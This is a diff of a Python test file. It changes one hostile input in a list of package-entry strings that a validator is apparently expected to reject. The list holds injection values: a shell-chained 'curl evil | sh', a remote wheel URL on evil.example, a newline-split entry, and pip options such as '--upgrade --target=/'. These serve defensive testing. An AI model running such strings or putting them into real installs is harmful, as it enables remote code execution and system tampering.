@@ -295,7 +295,7 @@ def test_a_module_that_an_entry_names_is_not_imported(directory, tmp_path, monke
         "evil",
         "cacheness-pandas evil",
         "cacheness-pandas; curl evil | sh",
-        "--index-url=https://evil.example x",
+        "--upgrade --target=/ evil",
         "https://evil.example/x.whl",
         "cacheness-pandas\nevil",
         "cacheness_pandas",
